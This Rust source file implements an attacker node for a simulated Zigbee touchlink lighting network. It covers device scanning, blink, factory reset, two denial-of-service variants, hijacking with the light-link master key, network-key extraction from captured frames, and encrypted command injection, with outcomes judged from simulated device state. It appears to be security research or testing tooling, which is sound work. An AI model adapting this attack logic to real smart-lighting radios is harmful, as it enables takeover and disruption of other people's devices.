//! The attacker node and its procedures.
//!
//! Two families: inter-PAN attacks that need no key material (scan, blink,
//! reset, both denial-of-service variants) and attacks that need the
//! light-link master key (hijack, network-key extraction). Command injection
//! needs only a network key, obtained by either of the latter.
//!
//! Outcomes are judged from simulated device state, not inferred from
//! traffic.

use std::collections::BTreeMap;
use std::fmt;

use rand::RngCore;
use thiserror::Error;

use crate::airsim::{
    AttackerRadio, DeviceSnapshot, LogRecord, NodeId, PathLossModel, Position, Received, Role,
    SimError, Simulation,
};
use crate::crypto::{unwrap_network_key, wrap_network_key, Key128, TransactionContext};
use crate::devices::touchlink::{ack_timed_out, COMMAND_GAP_US, COMMAND_SETTLE_US, SCAN_DWELL_US};
use crate::devices::{LampState, ProfileKind, LIGHT_ENDPOINT, TRANSACTION_LIFETIME_US};
use crate::wire::{
    next_sequence, ClusterCommand, ExtendedAddr, Frame, MacHeader, ScanResponse, SecuredNwkFrame,
    ShortAddr, TouchlinkCommand, BROADCAST_ENDPOINT, KEY_INDEX_MASTER, PRIMARY_CHANNELS,
};

#[derive(Debug, Error, Clone, PartialEq)]
pub enum AttackError {
    #[error("target did not receive a MAC acknowledgment in time")]
    AckTimeout,
    #[error("target rejected the request")]
    Rejected,
    #[error("attack requires the light-link master key")]
    MasterKeyRequired,
    #[error("target {0} is not part of the simulation")]
    UnknownTarget(ExtendedAddr),
    #[error("target {0} did not answer the scan")]
    TargetNotFound(ExtendedAddr),
    #[error("capture lacks a scan request, scan response or key-transport frame")]
    IncompleteCapture,
    #[error("captured frames belong to different transactions")]
    MixedTransactions,
    #[error(transparent)]
    Sim(#[from] SimError),
}

#[derive(Clone, Debug, PartialEq)]
pub struct AttackerConfig {
    pub tx_power_dbm: f64,
    /// Extended source placed in scan requests so a victim-network node
    /// acknowledges the scan responses.
    pub spoof_extended_src: Option<ExtendedAddr>,
    pub master_key: Option<Key128>,
    pub position: Position,
    /// Software acknowledgment latency; `None` means the radio never acks.
    pub ack_latency_us: Option<u64>,
    /// Channel of the attacker's own network; defaults to the target's.
    pub network_channel: Option<u8>,
}

impl Default for AttackerConfig {
    fn default() -> Self {
        AttackerConfig {
            tx_power_dbm: 0.0,
            spoof_extended_src: None,
            master_key: None,
            position: Position::default(),
            ack_latency_us: None,
            network_channel: None,
        }
    }
}

/// A touchlink target found by a scan, with the live transaction.
#[derive(Clone, Debug, PartialEq)]
pub struct DiscoveredDevice {
    pub extended_addr: ExtendedAddr,
    pub channel: u8,
    pub response: ScanResponse,
    pub rssi_dbm: f64,
    pub ctx: TransactionContext,
}

/// Parameters of the network the attacker pulls devices into.
#[derive(Clone, Debug, PartialEq)]
pub struct AttackerNetwork {
    pub pan_id: u16,
    pub extended_pan_id: u64,
    pub short_addr: ShortAddr,
    pub channel: Option<u8>,
    pub key: Option<Key128>,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Verdict {
    Success,
    NoEffect,
}

impl fmt::Display for Verdict {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Verdict::Success => "success",
            Verdict::NoEffect => "no-effect",
        })
    }
}

#[derive(Clone, Debug, PartialEq)]
pub struct AttackReport {
    pub attack: &'static str,
    pub target: String,
    pub frames_sent: usize,
    pub frames_received: usize,
    pub verdict: Verdict,
    pub detail: String,
    pub delta: Vec<String>,
    pub effective_identify_s: Option<u64>,
    pub key: Option<Key128>,
}

impl AttackReport {
    pub fn succeeded(&self) -> bool {
        self.verdict == Verdict::Success
    }
}

impl fmt::Display for AttackReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "attack={} target={}", self.attack, self.target)?;
        writeln!(
            f,
            "frames_sent={} frames_received={}",
            self.frames_sent, self.frames_received
        )?;
        writeln!(f, "verdict={}", self.verdict)?;
        writeln!(f, "detail: {}", self.detail)?;
        for d in &self.delta {
            writeln!(f, "delta: {d}")?;
        }
        Ok(())
    }
}

/// Bookkeeping for one targeted attack.
struct Session {
    target_node: NodeId,
    before: Option<DeviceSnapshot>,
    inbox_mark: usize,
    sent: usize,
}

pub struct Attacker {
    pub node: NodeId,
    pub config: AttackerConfig,
    pub network: AttackerNetwork,
    sequence: u8,
    frame_counter: u32,
    /// Short address handed to the next device pulled into the attacker's
    /// network.
    next_member: u16,
}

impl Attacker {
    /// Places the attacker radio into the simulation.
    pub fn deploy(sim: &mut Simulation, name: &str, config: AttackerConfig) -> Self {
        let node = sim.add_node(
            name,
            config.position,
            config.tx_power_dbm,
            Role::Attacker(AttackerRadio {
                ack_latency_us: config.ack_latency_us,
            }),
        );
        let rng = sim.rng();
        let network = AttackerNetwork {
            pan_id: (rng.next_u32() as u16) & 0xFFFE,
            extended_pan_id: rng.next_u64(),
            short_addr: ShortAddr(0x8000 + (rng.next_u32() % 0x6000) as u16),
            channel: config.network_channel,
            key: None,
        };
        let next_member = network.short_addr.0 + 1;
        Attacker {
            node,
            config,
            network,
            sequence: 0,
            frame_counter: 0,
            next_member,
        }
    }

    /// Everything the attacker radio has heard so far.
    pub fn capture<'a>(&self, sim: &'a Simulation) -> &'a [Received] {
        &sim.node(self.node).inbox
    }

    /// Tunes the radio, e.g. to sniff a commissioning channel.
    pub fn listen(&self, sim: &mut Simulation, channel: u8) {
        sim.node_mut(self.node).channel = channel;
    }

    fn next_seq(&mut self) -> u8 {
        self.sequence = next_sequence(self.sequence);
        self.sequence
    }

    fn source(&self, sim: &Simulation) -> ExtendedAddr {
        self.config
            .spoof_extended_src
            .unwrap_or(sim.node(self.node).extended_addr)
    }

    /// Broadcasts a scan request on each channel in turn and collects the
    /// scan responses heard during the dwell time.
    pub fn active_scan(
        &mut self,
        sim: &mut Simulation,
        channels: &[u8],
    ) -> Result<Vec<DiscoveredDevice>, AttackError> {
        let src = self.source(sim);
        let mut found = Vec::new();
        for &channel in channels {
            self.listen(sim, channel);
            let transaction_id = sim.random_transaction_id();
            let mark = sim.node(self.node).inbox.len();
            let seq = self.next_seq();
            sim.transmit(
                self.node,
                channel,
                &Frame::InterPan {
                    header: MacHeader::inter_pan_broadcast(seq, src),
                    command: TouchlinkCommand::ScanRequest { transaction_id },
                },
            )?;
            sim.advance(SCAN_DWELL_US);
            let mut seen = BTreeMap::new();
            for r in &sim.node(self.node).inbox[mark..] {
                let Frame::InterPan {
                    header,
                    command: TouchlinkCommand::ScanResponse(rsp),
                } = &r.frame
                else {
                    continue;
                };
                let Some(addr) = header.src_extended else {
                    continue;
                };
                if rsp.transaction_id != transaction_id || r.channel != channel {
                    continue;
                }
                seen.entry(addr).or_insert_with(|| DiscoveredDevice {
                    extended_addr: addr,
                    channel,
                    response: rsp.clone(),
                    rssi_dbm: r.rssi_dbm,
                    ctx: TransactionContext {
                        transaction_id,
                        response_id: rsp.response_id,
                        expires_at: r.at + TRANSACTION_LIFETIME_US,
                    },
                });
            }
            found.extend(seen.into_values());
        }
        Ok(found)
    }

    /// Scans the primary channels and returns the entry for `target`.
    pub fn find(
        &mut self,
        sim: &mut Simulation,
        target: ExtendedAddr,
    ) -> Result<Option<DiscoveredDevice>, AttackError> {
        Ok(self
            .active_scan(sim, &PRIMARY_CHANNELS)?
            .into_iter()
            .find(|d| d.extended_addr == target))
    }

    /// Like [`Attacker::find`] but a silent target is an error.
    pub fn locate(
        &mut self,
        sim: &mut Simulation,
        target: ExtendedAddr,
    ) -> Result<DiscoveredDevice, AttackError> {
        self.find(sim, target)?
            .ok_or(AttackError::TargetNotFound(target))
    }

    fn begin(&self, sim: &Simulation, target: &DiscoveredDevice) -> Result<Session, AttackError> {
        let target_node = sim
            .find_by_extended(target.extended_addr)
            .ok_or(AttackError::UnknownTarget(target.extended_addr))?;
        Ok(Session {
            target_node,
            before: sim.snapshot(target_node),
            inbox_mark: sim.node(self.node).inbox.len(),
            sent: 0,
        })
    }

    fn send_touchlink(
        &mut self,
        sim: &mut Simulation,
        session: &mut Session,
        target: &DiscoveredDevice,
        command: TouchlinkCommand,
    ) -> Result<(), AttackError> {
        self.listen(sim, target.channel);
        let seq = self.next_seq();
        let frame = Frame::InterPan {
            header: MacHeader::inter_pan_unicast(
                seq,
                self.source(sim),
                target.extended_addr,
                false,
            ),
            command,
        };
        sim.transmit(self.node, target.channel, &frame)?;
        session.sent += 1;
        sim.advance(COMMAND_GAP_US);
        if ack_timed_out(sim, session.target_node, target.ctx.transaction_id) {
            return Err(AttackError::AckTimeout);
        }
        Ok(())
    }

    fn finish(
        &self,
        sim: &Simulation,
        session: Session,
        attack: &'static str,
        verdict: Verdict,
        detail: String,
    ) -> AttackReport {
        let target_addr = sim.node(session.target_node).extended_addr;
        let frames_received = sim.node(self.node).inbox[session.inbox_mark..]
            .iter()
            .filter(|r| {
                r.frame
                    .header()
                    .is_some_and(|h| h.src_extended == Some(target_addr))
            })
            .count();
        let delta = match (&session.before, sim.snapshot(session.target_node)) {
            (Some(before), Some(after)) => before.diff(&after),
            _ => Vec::new(),
        };
        AttackReport {
            attack,
            target: sim.node(session.target_node).name.clone(),
            frames_sent: session.sent,
            frames_received,
            verdict,
            detail,
            delta,
            effective_identify_s: None,
            key: None,
        }
    }

    /// Starts (or with `duration` 0, aborts) identify blinking on the target.
    pub fn blink_attack(
        &mut self,
        sim: &mut Simulation,
        target: &DiscoveredDevice,
        duration: u16,
    ) -> Result<AttackReport, AttackError> {
        let mut session = self.begin(sim, target)?;
        let sent_at = sim.now();
        self.send_touchlink(
            sim,
            &mut session,
            target,
            TouchlinkCommand::IdentifyRequest {
                transaction_id: target.ctx.transaction_id,
                duration,
            },
        )?;
        let device = sim.end_device(session.target_node);
        let (verdict, detail, effective) = match device {
            None => (Verdict::NoEffect, "target has no light".to_string(), None),
            Some(d) if duration == 0 => {
                if d.identify_until.is_none() {
                    (Verdict::Success, "identify aborted".to_string(), None)
                } else {
                    (
                        Verdict::NoEffect,
                        "identify still running".to_string(),
                        None,
                    )
                }
            }
            Some(d) => match (d.identify_started_at, d.identify_until) {
                (Some(start), Some(until)) if start >= sent_at => {
                    let secs = (until - start) / 1_000_000;
                    (Verdict::Success, format!("effective {secs} s"), Some(secs))
                }
                _ => (Verdict::NoEffect, "identify not started".to_string(), None),
            },
        };
        let mut report = self.finish(sim, session, "blink", verdict, detail);
        report.effective_identify_s = effective;
        Ok(report)
    }

    /// Sends a reset-to-factory-new request within the live transaction.
    pub fn reset_attack(
        &mut self,
        sim: &mut Simulation,
        target: &DiscoveredDevice,
    ) -> Result<AttackReport, AttackError> {
        let mut session = self.begin(sim, target)?;
        self.send_touchlink(
            sim,
            &mut session,
            target,
            TouchlinkCommand::ResetToFactoryNewRequest {
                transaction_id: target.ctx.transaction_id,
            },
        )?;
        let reset = if let Some(d) = sim.end_device(session.target_node) {
            d.factory_new && d.lamp == LampState::DEFAULT
        } else {
            sim.initiator(session.target_node)
                .is_some_and(|i| i.is_factory_new())
        };
        let (verdict, detail) = if reset {
            (Verdict::Success, "target is factory-new".to_string())
        } else {
            (
                Verdict::NoEffect,
                "target kept its configuration".to_string(),
            )
        };
        Ok(self.finish(sim, session, "reset", verdict, detail))
    }

    /// Moves the target to `new_channel` with a network update request whose
    /// update identifier is one above the target's.
    pub fn dos_channel_change(
        &mut self,
        sim: &mut Simulation,
        target: &DiscoveredDevice,
        new_channel: u8,
    ) -> Result<AttackReport, AttackError> {
        let update_id = target.response.network_update_id.wrapping_add(1);
        self.dos_channel_change_with_update_id(sim, target, new_channel, update_id)
    }

    /// Same as [`Attacker::dos_channel_change`] with an explicit update identifier.
    pub fn dos_channel_change_with_update_id(
        &mut self,
        sim: &mut Simulation,
        target: &DiscoveredDevice,
        new_channel: u8,
        network_update_id: u8,
    ) -> Result<AttackReport, AttackError> {
        let mut session = self.begin(sim, target)?;
        self.send_touchlink(
            sim,
            &mut session,
            target,
            TouchlinkCommand::NetworkUpdateRequest {
                transaction_id: target.ctx.transaction_id,
                extended_pan_id: target.response.extended_pan_id,
                network_update_id,
                channel: new_channel,
                pan_id: target.response.pan_id,
                short_addr: target.response.network_address,
            },
        )?;
        let moved = sim
            .end_device(session.target_node)
            .is_some_and(|d| d.net.as_ref().is_some_and(|n| n.channel == new_channel));
        if !moved {
            return Err(AttackError::Rejected);
        }
        Ok(self.finish(
            sim,
            session,
            "dos-channel",
            Verdict::Success,
            format!("target now listens on channel {new_channel}"),
        ))
    }

    fn resolve_channel(&self, target: &DiscoveredDevice) -> u8 {
        self.network.channel.unwrap_or(target.channel)
    }

    #[allow(clippy::too_many_arguments)]
    fn join_target(
        &mut self,
        sim: &mut Simulation,
        session: &mut Session,
        target: &DiscoveredDevice,
        pan_id: u16,
        extended_pan_id: u64,
        channel: u8,
        encrypted_network_key: [u8; 16],
    ) -> Result<bool, AttackError> {
        let assigned = self.next_member;
        // Member addresses stay below the reserved 0xfff8.. range.
        self.next_member = if assigned >= 0xFFF0 {
            0x8000
        } else {
            assigned + 1
        };
        self.send_touchlink(
            sim,
            session,
            target,
            TouchlinkCommand::NetworkJoinEndDeviceRequest {
                transaction_id: target.ctx.transaction_id,
                extended_pan_id,
                key_index: KEY_INDEX_MASTER,
                encrypted_network_key,
                channel,
                pan_id,
                network_update_id: 0,
                assigned_short_addr: ShortAddr(assigned),
            },
        )?;
        let confirmed = sim.node(self.node).inbox[session.inbox_mark..].iter().any(|r| {
            matches!(
                r.frame.touchlink(),
                Some(TouchlinkCommand::NetworkJoinEndDeviceResponse { transaction_id, status: 0 })
                    if *transaction_id == target.ctx.transaction_id
            )
        });
        Ok(confirmed)
    }

    /// Joins the target to a phantom network with a random encrypted key.
    pub fn dos_join_phantom(
        &mut self,
        sim: &mut Simulation,
        target: &DiscoveredDevice,
    ) -> Result<AttackReport, AttackError> {
        let mut session = self.begin(sim, target)?;
        let rng = sim.rng();
        let pan_id = rng.next_u32() as u16 & 0xFFFE;
        let extended_pan_id = rng.next_u64();
        let mut garbage = [0u8; 16];
        rng.fill_bytes(&mut garbage);
        let channel = self.resolve_channel(target);
        let confirmed = self.join_target(
            sim,
            &mut session,
            target,
            pan_id,
            extended_pan_id,
            channel,
            garbage,
        )?;
        let joined = sim.end_device(session.target_node).is_some_and(|d| {
            d.net
                .as_ref()
                .is_some_and(|n| n.pan_id == pan_id && n.extended_pan_id == extended_pan_id)
        });
        let (verdict, detail) = if joined {
            (
                Verdict::Success,
                format!(
                    "target joined phantom pan=0x{pan_id:04x} (join response {})",
                    if confirmed { "received" } else { "missing" }
                ),
            )
        } else {
            (Verdict::NoEffect, "target kept its network".to_string())
        };
        Ok(self.finish(sim, session, "dos-join", verdict, detail))
    }

    /// Pulls the target into the attacker's network under `attacker_key`.
    pub fn hijack(
        &mut self,
        sim: &mut Simulation,
        target: &DiscoveredDevice,
        attacker_key: Key128,
    ) -> Result<AttackReport, AttackError> {
        let master = self
            .config
            .master_key
            .ok_or(AttackError::MasterKeyRequired)?;
        let mut session = self.begin(sim, target)?;
        let encrypted = wrap_network_key(&master, &target.ctx, &attacker_key)
            .map_err(|_| AttackError::Rejected)?;
        let channel = self.resolve_channel(target);
        self.network.channel = Some(channel);
        self.network.key = Some(attacker_key);
        let (pan_id, extended_pan_id) = (self.network.pan_id, self.network.extended_pan_id);
        let confirmed = self.join_target(
            sim,
            &mut session,
            target,
            pan_id,
            extended_pan_id,
            channel,
            encrypted,
        )?;
        let adopted = sim
            .end_device(session.target_node)
            .and_then(|d| d.net.as_ref())
            .map(|n| n.network_key);
        let (verdict, detail) = match adopted {
            Some(k) if k == attacker_key => (
                Verdict::Success,
                format!(
                    "target uses attacker key on pan=0x{pan_id:04x} channel={channel} (join response {})",
                    if confirmed { "received" } else { "missing" }
                ),
            ),
            Some(k) => (
                Verdict::NoEffect,
                format!("target adopted a different key {k}"),
            ),
            None => (Verdict::NoEffect, "target has no network".to_string()),
        };
        let mut report = self.finish(sim, session, "hijack", verdict, detail);
        report.key = adopted;
        Ok(report)
    }

    /// Sends an encrypted application command to `dst` (or every device when
    /// `dst` is the broadcast address) via the broadcast endpoint.
    pub fn inject_command(
        &mut self,
        sim: &mut Simulation,
        network_key: &Key128,
        pan_id: u16,
        channel: u8,
        command: ClusterCommand,
        dst: ShortAddr,
    ) -> Result<AttackReport, AttackError> {
        self.listen(sim, channel);
        self.frame_counter += 1;
        let src = self.network.short_addr;
        let (ciphertext, mic) =
            crate::crypto::ccm_encrypt(network_key, src.0, self.frame_counter, &command.to_bytes());
        let seq = self.next_seq();
        let frame = Frame::Network {
            header: MacHeader {
                sequence_number: seq,
                src_pan: pan_id,
                dst_pan: pan_id,
                src_short: Some(src),
                dst_short: Some(dst),
                src_extended: None,
                dst_extended: None,
                ack_requested: false,
            },
            payload: SecuredNwkFrame {
                src_short: src,
                dst_short: dst,
                frame_counter: self.frame_counter,
                endpoint: BROADCAST_ENDPOINT,
                ciphertext,
                mic,
            },
        };
        debug_assert_ne!(LIGHT_ENDPOINT, BROADCAST_ENDPOINT);
        sim.transmit(self.node, channel, &frame)?;
        let mut affected = Vec::new();
        let mut drops = Vec::new();
        for record in sim.advance(COMMAND_SETTLE_US) {
            match record {
                LogRecord::Applied { name, .. } => affected.push(name.clone()),
                LogRecord::Drop { name, reason, .. } => drops.push(format!("{name}: {reason}")),
                _ => {}
            }
        }
        let verdict = if affected.is_empty() {
            Verdict::NoEffect
        } else {
            Verdict::Success
        };
        let detail = if affected.is_empty() {
            format!("{command} not applied by any device")
        } else {
            format!("{command} applied by {}", affected.join(","))
        };
        Ok(AttackReport {
            attack: "inject",
            target: dst.to_string(),
            frames_sent: 1,
            frames_received: 0,
            verdict,
            detail,
            delta: drops,
            effective_identify_s: None,
            key: Some(*network_key),
        })
    }
}

/// Largest distance at which a transmitter of `tx_power_dbm` still passes
/// the touchlink signal-strength check of a `kind` device under `model`.
pub fn modeled_attack_range_m(model: &PathLossModel, tx_power_dbm: f64, kind: ProfileKind) -> f64 {
    let profile = kind.profile();
    let required = profile.touchlink_rssi_threshold_dbm - profile.rx_sensitivity_offset_db;
    model.max_distance(tx_power_dbm, required)
}

/// A network key recovered from one captured touchlink transaction.
#[derive(Clone, Debug, PartialEq)]
pub struct ExtractedKey {
    pub transaction_id: u32,
    pub target: ExtendedAddr,
    pub key: Key128,
    pub pan_id: u16,
    pub channel: u8,
}

struct KeyTransport {
    transaction_id: u32,
    target: ExtendedAddr,
    encrypted: [u8; 16],
    pan_id: u16,
    channel: u8,
}

fn key_transports(capture: &[Received]) -> Vec<KeyTransport> {
    capture
        .iter()
        .filter_map(|r| match &r.frame {
            Frame::InterPan { header, command } => {
                let (transaction_id, encrypted, pan_id, channel) = match command {
                    TouchlinkCommand::NetworkJoinEndDeviceRequest {
                        transaction_id,
                        encrypted_network_key,
                        pan_id,
                        channel,
                        ..
                    }
                    | TouchlinkCommand::NetworkStartRequest {
                        transaction_id,
                        encrypted_network_key,
                        pan_id,
                        channel,
                        ..
                    } => (*transaction_id, *encrypted_network_key, *pan_id, *channel),
                    _ => return None,
                };
                Some(KeyTransport {
                    transaction_id,
                    target: header.dst_extended?,
                    encrypted,
                    pan_id,
                    channel,
                })
            }
            _ => None,
        })
        .collect()
}

fn has_scan_request(capture: &[Received], transaction_id: u32) -> bool {
    capture.iter().any(|r| {
        matches!(r.frame.touchlink(), Some(TouchlinkCommand::ScanRequest { transaction_id: t }) if *t == transaction_id)
    })
}

fn scan_response_from(
    capture: &[Received],
    transaction_id: u32,
    target: ExtendedAddr,
) -> Option<u32> {
    capture.iter().find_map(|r| match &r.frame {
        Frame::InterPan {
            header,
            command: TouchlinkCommand::ScanResponse(rsp),
        } if rsp.transaction_id == transaction_id && header.src_extended == Some(target) => {
            Some(rsp.response_id)
        }
        _ => None,
    })
}

/// Recovers the network key of every complete transaction in the capture
/// (scan request, the target's scan response, and a join or start request
/// sharing one transaction identifier).
pub fn extract_all_network_keys(capture: &[Received], master_key: &Key128) -> Vec<ExtractedKey> {
    let mut keys = Vec::new();
    for kt in key_transports(capture) {
        if !has_scan_request(capture, kt.transaction_id) {
            continue;
        }
        let Some(response_id) = scan_response_from(capture, kt.transaction_id, kt.target) else {
            continue;
        };
        let Ok(ctx) = TransactionContext::new(kt.transaction_id, response_id, 0) else {
            continue;
        };
        if let Ok(key) = unwrap_network_key(master_key, &ctx, &kt.encrypted) {
            keys.push(ExtractedKey {
                transaction_id: kt.transaction_id,
                target: kt.target,
                key,
                pan_id: kt.pan_id,
                channel: kt.channel,
            });
        }
    }
    keys
}

/// Recovers the network key of the most recent complete transaction.
pub fn extract_network_key(
    capture: &[Received],
    master_key: &Key128,
) -> Result<Key128, AttackError> {
    if let Some(last) = extract_all_network_keys(capture, master_key).pop() {
        return Ok(last.key);
    }
    let has_request = capture.iter().any(|r| {
        matches!(
            r.frame.touchlink(),
            Some(TouchlinkCommand::ScanRequest { .. })
        )
    });
    let has_response = capture
        .iter()
        .any(|r| matches!(r.frame.touchlink(), Some(TouchlinkCommand::ScanResponse(_))));
    if has_request && has_response && !key_transports(capture).is_empty() {
        Err(AttackError::MixedTransactions)
    } else {
        Err(AttackError::IncompleteCapture)
    }
}
